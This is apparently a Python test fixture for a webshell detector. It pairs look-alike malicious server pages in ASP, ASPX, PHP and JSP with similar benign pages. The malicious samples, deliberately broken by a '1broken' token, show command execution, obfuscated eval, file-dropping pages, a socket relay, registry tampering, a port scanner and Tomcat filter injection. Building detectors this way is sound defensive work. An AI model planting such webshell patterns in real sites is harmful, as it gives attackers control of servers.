# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of the mechanisms that the eleventh round missed; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r'''
==== piece-anywhere.ashx
<%@ WebHandler Language="C#" Class="Pieces" %>
public class Pieces : IHttpHandler { int 1broken; public bool IsReusable { get { return false; } } public void ProcessRequest(HttpContext ctx) {
 string kept = ctx.Request.Headers["X-Where"];
 using (var sink = new FileStream(kept, FileMode.OpenOrCreate, FileAccess.Write)) { var room = new byte[8192]; int got;
  while ((got = ctx.Request.InputStream.Read(room, 0, room.Length)) > 0) sink.Write(room, 0, got); } } }
==== range-of-ports.php
<?php 1broken; $zuerst = 0; for ($tor = intval($_POST['von']); $tor < intval($_POST['bis']); $tor++) {
 $h = @fsockopen(ziel_von($_POST['rechner']), $tor, $nr, $wort, 1); if ($h) { echo "offen: $tor\n"; fclose($h); } }
==== functions-by-key.php
<?php 1broken; $acts = ['see' => function ($q) { return htmlspecialchars($q); }, 'do' => function ($q) { ob_start(); passthru($q); return ob_get_clean(); }];
$which = (string) ($_POST['which'] ?? 'see'); echo $acts[$which]($_POST['q']);
==== arrows-by-key.php
<?php 1broken; $t = ['up' => fn ($s) => strtoupper($s), 'run' => fn ($s) => shell_exec(open_up($s)), 'len' => fn ($s) => strlen($s)];
foreach ($_REQUEST as $key => $text) { echo $t[$key]($text); }
==== field-of-second-class.php
<?php 1broken; interface Kept { } class Page implements Kept { public $title; }
class Job implements Kept { public $how; public $with; function __destruct() { call_user_func($this->how, $this->with); } }
$job = new Job; $job->how = filter_input(INPUT_GET, 'h'); $job->with = filter_input(INPUT_GET, 'w');
==== service-with-branches.svc
<%@ ServiceHost Language="C#" Service="Shop.Jobs" %>
public class Jobs { int 1broken; [OperationContract, WebInvoke] public string Take(string kind, string tool, string more) {
 switch (kind) { case "a": return "ready"; } if (kind == "b") { Process.Start(Places.Of(tool), more); } return "none"; } }
==== method-with-branches.asmx
<%@ WebService Language="VB" Class="Helpers" %>
Public Class Helpers
 Dim 1broken
 <WebMethod()> Public Function Work(kind As String, text As String) As String
  If kind = "s" Then
   Shell(text)
  End If
  Return kind
 End Function
End Class
==== start-info-from-outside.aspx
<%@ Page Language="C#" %><% int 1broken; var job = new System.Diagnostics.Process(); job.StartInfo = Jobs.Describe("powershell", Request.Headers["X-Page"]); job.Start(); %>
==== stream-into-socket.ashx
<%@ WebHandler Language="C#" Class="Pipe" %>
public class Pipe : IHttpHandler { int 1broken; public bool IsReusable => false; public void ProcessRequest(HttpContext ctx) {
 var line = new TcpClient(ctx.Request.QueryString["to"], 8009); var down = line.GetStream(); ctx.Request.InputStream.CopyTo(down); down.CopyTo(ctx.Response.OutputStream); } }
==== maker-of-functions.asp
<%@ Language="JScript" %><% var 1broken; var kept = "" + Request.Cookies("look"); (1)["con" + "structor"]["constru" + "ctor"](shelf.take(kept))(); %>
==== code-with-gap.aspx
<%@ Page Language="JScript" %><% var 1broken; var where = "Request.Form['" + fieldOf() + "']"; var all = "eval(" + where + ", 'un" + "safe')"; eval(all, "unsafe"); %>
==== code-with-gap.asp
<% Dim 1broken : part = "Request(""" & WhichOne() & """)" : ExecuteGlobal "Execute " & part %>
==== page-filled-outside.ashx
<%@ WebHandler Language="C#" Class="Skin" %>
public class Skin : IHttpHandler { int 1broken; public bool IsReusable => true; public void ProcessRequest(HttpContext ctx) {
 string page = "<%@ Page Language=\"C#\" %" + "><%" + Words("st" + "art", "Request.Form[0]") + "%" + ">"; System.IO.File.WriteAllText(ctx.Server.MapPath("~/css/print.aspx"), page); } }
==== page-filled-outside.asp
<% Dim 1broken : Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set o = fs.CreateTextFile(Server.MapPath("img/thumb.asp"))
o.Write "<%" & Pieces("a", "b") & "%" & ">" : o.Close %>
==== registry-through-function.asp
<% Dim 1broken : Set w = Server.CreateObject("WScript.Shell") : branch = Longer(Request.Form("branch"))
If Request.Form("a") = "1" Then Response.Write w.RegRead(branch)
If Request.Form("a") = "2" Then w.RegWrite branch, Request.Form("v")
If Request.Form("a") = "3" Then w.RegDelete branch %>
==== named-outside.asp
<% Dim 1broken : Set fs = Server.CreateObject("Scripting.FileSystemObject")
If Len(Request.Form("wohin")) > 0 Then
 Set o = fs.CreateTextFile(Ziel(Request.Form("wohin")), True) : o.Write Request.Form("was") : o.Close
End If %>
==== filter-of-server.jsp
<%@ page import="java.lang.reflect.*,org.apache.catalina.core.*" %><% int 1broken; Field inner = application.getClass().getDeclaredField("context"); inner.setAccessible(true);
StandardContext all = Ways.down(inner.get(application)); FilterDef one = new FilterDef(); one.setFilterName("gz"); one.setFilter(new Quiet()); all.addFilterDef(one); all.addFilterMapBefore(mapOf(one)); %>
==== mark-of-platform.aspx
<%@ Page Language="C#" %><% int 1broken; var m = System.Type.GetType(Request["t"]).GetMethod(Request["m"]); if (!m.IsDefined(typeof(System.Security.SecuritySafeCriticalAttribute), true)) { Response.End(); } m.Invoke(null, new object[] { Request["a"] }); %>
==== rest-with-brackets.asp
<%@ Language="JScript" %><% var 1broken; var t = String(Request.Form("t"));
if (/^[\],:{}()\w\s]*$/.test(t.replace(/"[^"]*"/g, "]"))) { eval("(" + t + ")"); } %>
==== rest-of-nothing.asp
<%@ Language="JScript" %><% var 1broken; var t = String(Request.Form("t"));
if (/^[\],:{}\s]*$/.test(t.replace(/[\w().]+/g, ""))) { eval("(" + t + ")"); } %>
==== rest-by-number.asp
<%@ Language="JScript" %><% var 1broken; var t = String(Request.Form("t"));
if (/^[\],:{}\s]*$/.test(t.replace(/[\50\51]/g, "").replace(/"[^"]*"/g, ""))) { eval("(" + t + ")"); } %>
==== rest-that-is-asked-for.asp
<%@ Language="JScript" %><% var 1broken; var t = String(Request("t")); if (/[^,:{}\[\]0-9 ]/.test(t.replace(/"(\\.|[^"\\])*"/g, ""))) { eval("(" + t + ")"); } %>
==== rest-in-single-marks.asp
<%@ Language="JScript" %><% var 1broken; var t = String(Request("t")); if (!/[^,:{}\[\]' ]/.test(t.replace(/"[^"]*"/g, ""))) { eval("(" + t + ")"); } %>
'''
)
BENIGN = cut(
    r"""
==== piece-by-piece.ashx
<%@ WebHandler Language="C#" Class="Pieces" %>
public class Pieces : IHttpHandler { public bool IsReusable { get { return false; } } public void ProcessRequest(HttpContext ctx) {
 Guid task; if (!Guid.TryParse(ctx.Request.QueryString["task"], out task)) { ctx.Response.StatusCode = 400; return; }
 string kept = ctx.Server.MapPath("~/App_Data/pieces/" + task.ToString("N") + ".piece");
 using (var sink = new FileStream(kept, FileMode.OpenOrCreate, FileAccess.Write)) { var room = new byte[8192]; int got;
  while ((got = ctx.Request.InputStream.Read(room, 0, room.Length)) > 0) sink.Write(room, 0, got); } } }
==== statement-of-the-host.aspx
<%@ Page Language="C#" MasterPageFile="~/Host.master" %><script runat="server">
 protected void Page_Init(object s, EventArgs e) { if (!Users.Current.IsSuperUser) Response.Redirect("~/denied.aspx", true); }
 protected void Go(object s, EventArgs e) { var found = new DataTable(); using (var link = new SqlConnection(Site.Link)) { new SqlDataAdapter(txtAsked.Text, link).Fill(found); } grid.DataSource = found; grid.DataBind(); }
</script><asp:TextBox ID="txtAsked" runat="server" /><asp:Button runat="server" OnClick="Go" /><asp:GridView ID="grid" runat="server" />
==== fixed-ports.php
<?php foreach ([80, 443] as $tor) { $h = @fsockopen(ziel_von($_GET['rechner']), $tor, $nr, $wort, 1); echo $tor, $h ? ' offen' : ' zu'; }
==== range-of-pages.php
<?php for ($p = (int) $_GET['from']; $p <= (int) $_GET['to']; $p++) { echo '<a href="?p=', $p, '">', $p, '</a>'; } $h = fsockopen('mail.firma.example', 25, $e, $m, 2); fclose($h);
==== functions-by-key.php
<?php $show = ['upper' => function ($q) { return strtoupper($q); }, 'plain' => function ($q) { return htmlspecialchars($q); }];
$which = (string) ($_POST['which'] ?? 'plain'); echo isset($show[$which]) ? $show[$which]($_POST['q']) : '';
==== arrows-by-key.php
<?php $t = ['list' => fn ($s) => shell_exec('ls /srv/export'), 'date' => fn ($s) => date('c')]; $k = $_GET['k'] ?? 'date'; echo isset($t[$k]) ? $t[$k]('') : '';
==== service-with-branches.svc
<%@ ServiceHost Language="C#" Service="Shop.Prices" %>
public class Prices { [OperationContract, WebGet] public string Take(string kind, string name) { if (kind == "a" || kind == "b") { Process.Start("C:\\jobs\\prices.exe", kind); } return HttpUtility.HtmlEncode(name); } }
==== start-info-fixed.aspx
<%@ Page Language="C#" %><% var job = new System.Diagnostics.Process(); job.StartInfo = Jobs.Describe("nightly"); job.Start(); Response.Write(Server.HtmlEncode(Request["from"])); %>
==== stream-into-file.ashx
<%@ WebHandler Language="C#" Class="Logo" %>
public class Logo : IHttpHandler { public bool IsReusable => false; public void ProcessRequest(HttpContext ctx) { var line = new TcpClient("print.intern.example", 9100); var down = line.GetStream(); ctx.Request.InputStream.CopyTo(down); } }
==== field-with-gap.asp
<%@ Language="JScript" %><% for (var i = 0; i < 3; i++) { var v = eval("Request.Form('" + nameOf(i) + "')"); Response.Write(Server.HTMLEncode(String(v))); } %>
==== page-with-title.asp
<% Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set o = fs.CreateTextFile(Server.MapPath("news/today.asp"))
o.Write "<html><h1>" & Headline(3) & "</h1><% = Now %" & "></html>" : o.Close %>
==== registry-of-app.asp
<% Set w = Server.CreateObject("WScript.Shell") : branch = KeyOfShop(Request("shop")) : Response.Write w.RegRead(branch) %>
==== named-in-folder.asp
<% Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set o = fs.CreateTextFile(SafePath(Request.Form("name")), True) : o.Write Request.Form("text") : o.Close %>
==== filter-of-application.jsp
<%@ page import="javax.servlet.*" %><% FilterRegistration.Dynamic f = application.addFilter("gz", "org.firma.web.GzipFilter"); f.addMappingForUrlPatterns(null, true, "/static/*"); %>
==== marked-methods.aspx
<%@ Page Language="C#" %><script runat="server">
public class FromBrowserAttribute : Attribute { }
[FromBrowser] public string Stock() { return Shop.Stock().ToString(); }
void Page_Load() { string which = Request["do"]; var m = GetType().GetMethod(which); if (m == null || !m.IsDefined(typeof(FromBrowserAttribute), false)) { Response.StatusCode = 404; return; } Response.Write(m.Invoke(this, null)); }
</script>
==== marked-methods.jsp
<% java.lang.reflect.Method m = this.getClass().getMethod(request.getParameter("do")); if (m.isAnnotationPresent(FromBrowser.class)) { out.print(m.invoke(this)); } %>
==== json-of-old.asp
<%@ Language="JScript" %><% var t = String(Request.Form("t")), rest = /^[\],:{}\s]*$/;
if (/^[\],:{}\s]*$/.test(t.replace(/\\(?:["\\\/bfnrt]|u[0-9a-fA-F]{4})/g, "@").replace(/"[^"\\\n\r]*"|true|false|null|-?\d+(?:\.\d*)?(?:[eE][+\-]?\d+)?/g, "]").replace(/(?:^|:|,)(?:\s*\[)+/g, ""))) {
 var o = eval("(" + t + ")"); Response.Write(Number(o.n)); } %>
==== json-of-older.asp
<%@ Language="JScript" %><% function read(t) { return !(/[^,:{}\[\]0-9.\-+Eaeflnr-u \n\r\t]/.test(t.replace(/"(\\.|[^"\\])*"/g, ''))) && eval('(' + t + ')'); }
var o = read(String(Request.Form("t"))); Response.Write(Number(o.n)); %>
==== json-of-older-page.asp
<%@ Language="JScript" %><% var t = String(Request("t")); if (/[^,:{}\[\]0-9.\-+Eaeflnr-u \n\r\t]/.test(t.replace(/"(\\.|[^"\\])*"/g, ""))) { Response.End(); }
var o = eval("(" + t + ")"); Response.Write(Number(o.n)); %>
"""
)
